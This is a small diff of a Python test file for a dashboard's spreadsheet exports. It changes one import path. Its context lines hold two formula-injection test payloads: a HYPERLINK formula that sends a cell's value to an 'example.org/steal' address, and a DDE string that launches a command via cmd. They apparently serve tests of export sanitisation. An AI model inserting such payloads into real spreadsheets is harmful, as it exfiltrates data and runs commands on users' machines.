@@ -18,7 +18,7 @@ import pytest
 sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "dashboard"))
 import dashboard_synth as synth  # noqa: E402
 
-from dashboard import exports  # noqa: E402
+from dashboard.web import exports  # noqa: E402
 
 HYPERLINK = '=HYPERLINK("http://example.org/steal?x="&A1,"click")'
 DDE = "-2+3+cmd|' /C calc'!A0"
